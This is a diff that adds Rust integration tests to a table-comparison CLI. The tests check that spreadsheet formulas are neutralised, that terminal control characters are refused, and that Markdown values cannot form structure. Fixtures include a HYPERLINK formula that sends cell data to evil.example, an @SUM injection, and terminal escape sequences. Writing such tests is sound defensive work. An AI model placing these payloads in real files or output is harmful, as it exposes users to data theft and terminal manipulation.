@@ -217,3 +217,159 @@ fn output_files_replace_only_regular_files_and_follow_the_umask() {
         .collect();
     assert!(left.is_empty(), "temporary files left: {left:?}");
 }
+
+/// Rewrite `file` in `dir` by replacing `from` with `to` (which must occur).
+fn edit(dir: &Path, file: &str, from: &str, to: &str) {
+    let p = dir.join(file);
+    let s = fs::read_to_string(&p).unwrap();
+    assert!(s.contains(from), "fixture lacks {from:?}");
+    fs::write(p, s.replacen(from, to, 1)).unwrap();
+}
+
+/// Two raw overviews; the second adds a row whose name is a formula and
+/// whose comment would make Markdown structure.
+fn raw_pair(dir: &Path) {
+    fs::write(
+        dir.join("a.tsv"),
+        "Oversikt per 1. januar 2020\nOmråde\tForm\tA\tB\tMerknad\nPolitikk\t\t\t\t\nRåd\tAvtale\tx\tx\tMed fylket\n",
+    )
+    .unwrap();
+    fs::write(
+        dir.join("b.tsv"),
+        "Oversikt per 1. januar 2021\nOmråde\tForm\tA\tB\tMerknad\nPolitikk\t\t\t\t\nRåd\tAvtale\tx\tx\tMed fylket\n=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\tAvtale\tx\t\t# heading\n@SUM(1)\tAvtale\tx\t\t-1\n",
+    )
+    .unwrap();
+}
+
+/// Defect 2: a cell that a spreadsheet would run as a formula is written
+/// as text (a leading `'`) in `excel` and `csv` output.
+#[test]
+fn formulas_in_csv_and_excel_output_are_neutralised() {
+    let d = tempfile::tempdir().unwrap();
+    raw_pair(d.path());
+    for format in ["csv", "excel"] {
+        let (code, out, err) = run(d.path(), &["diff", "a.tsv", "b.tsv", "--format", format]);
+        assert_eq!(code, 0, "{err}");
+        assert!(
+            out.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","),
+            "{format}: {out}"
+        );
+        assert!(out.contains(",'@SUM(1),"), "{format}: {out}");
+        for line in out.lines() {
+            for cell in line.split(',') {
+                assert!(
+                    !cell.trim_matches('"').starts_with(['=', '+', '@']),
+                    "{format}: live formula in {line}"
+                );
+            }
+        }
+    }
+}
+
+/// Defect 3: control characters in snapshot text are refused at
+/// validation with path:line:col, and never echoed raw in messages.
+#[test]
+fn control_characters_are_refused_and_never_echoed() {
+    let d = fixture_copy();
+    edit(
+        d.path(),
+        "test-2020.json",
+        "\"name\": \"Regional council\"",
+        "\"name\": \"Regional council\\u001b]0;owned-title\\u0007\"",
+    );
+    let (code, out, err) = run(d.path(), &["validate", "test-2020.json"]);
+    assert_eq!(
+        err,
+        "error: test-2020.json:54:15: control character U+001B in text: expected printable text (control characters can act on a terminal)\n"
+    );
+    assert_eq!(out, "1 problem in 1 file; 0 snapshots valid\n");
+    assert_eq!(code, 1);
+    edit(
+        d.path(),
+        "test-2022.json",
+        "\"id\": \"test-2022\"",
+        "\"id\": \"\\u001b[2J\"",
+    );
+    let (code, _, err) = run(d.path(), &["validate", "test-2022.json"]);
+    assert_eq!(
+        err,
+        "error: test-2022.json:3:9: control character U+001B in text: expected printable text (control characters can act on a terminal)\n"
+    );
+    assert_eq!(code, 1);
+    // A file name is echoed with its control characters made visible.
+    let (code, _, err) = run(d.path(), &["validate", "\u{1b}]0;owned\u{7}.json"]);
+    assert_eq!(
+        err,
+        "error: \\u{1b}]0;owned\\u{7}.json: cannot read: no such file or directory\n"
+    );
+    assert_eq!(code, 2);
+}
+
+/// Defect 7: a value cannot make Markdown structure, and `-o` writes what
+/// stdout shows.
+#[test]
+fn markdown_values_stay_on_their_line_and_files_equal_stdout() {
+    let d = tempfile::tempdir().unwrap();
+    raw_pair(d.path());
+    let (code, out, err) = run(
+        d.path(),
+        &["diff", "a.tsv", "b.tsv", "--format", "markdown"],
+    );
+    assert_eq!(code, 0, "{err}");
+    assert!(
+        out.contains("**=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")**"),
+        "{out}"
+    );
+    assert!(!out.lines().any(|l| l.starts_with("# heading")), "{out}");
+    let (code, _, err) = run(d.path(), &["report", "-o", "r.md"]);
+    assert_eq!(code, 0, "{err}");
+    let (_, stdout, _) = run(d.path(), &["report"]);
+    assert_eq!(fs::read_to_string(d.path().join("r.md")).unwrap(), stdout);
+}
+
+/// Defect 8: one date rule for import and validation.
+#[test]
+fn import_never_writes_a_date_validation_rejects() {
+    let d = tempfile::tempdir().unwrap();
+    fs::write(
+        d.path().join("doc.tsv"),
+        "Oversikt per 1. januar 99999\nOmråde\tForm\tA\tB\tMerknad\nRåd\tAvtale\tx\tx\t\n",
+    )
+    .unwrap();
+    let (code, out, err) = run(d.path(), &["import", "--layout", "table", "doc.tsv"]);
+    assert_eq!(
+        err,
+        "error: doc.tsv:1:1: no date found (such as \"per 1. januar 2021\"): pass --as-of YYYY-MM-DD or --as-of YYYY\n"
+    );
+    assert_eq!((code, out.as_str()), (2, ""));
+    let (code, _, err) = run(
+        d.path(),
+        &["import", "--layout", "table", "--as-of", "0000", "doc.tsv"],
+    );
+    assert_eq!(
+        err,
+        "error: --as-of: invalid date `0000`: expected YYYY, YYYY-MM or YYYY-MM-DD with a real calendar day\n"
+    );
+    assert_eq!(code, 2);
+}
+
+/// Defect 9: each load error once, with its location; a binary source is
+/// called a binary document, not JSON.
+#[test]
+fn errors_are_located_and_printed_once() {
+    let d = fixture_copy();
+    fs::write(d.path().join("bad.json"), "{}").unwrap();
+    let once = "error: bad.json:1:1: missing field `format`: expected \"samdiff-snapshot/1\"\n";
+    for cmd in ["diff", "match"] {
+        let (code, _, err) = run(d.path(), &[cmd, "bad.json", "test-2020.json"]);
+        assert_eq!(err, once, "{cmd}");
+        assert_eq!(code, 2, "{cmd}");
+    }
+    fs::write(d.path().join("sources/overview-2020.txt"), b"a\0b").unwrap();
+    let (code, _, err) = run(d.path(), &["validate", "test-2020.json"]);
+    assert!(
+        err.contains("binary file (NUL byte): expected a text document"),
+        "{err}"
+    );
+    assert_eq!(code, 1);
+}
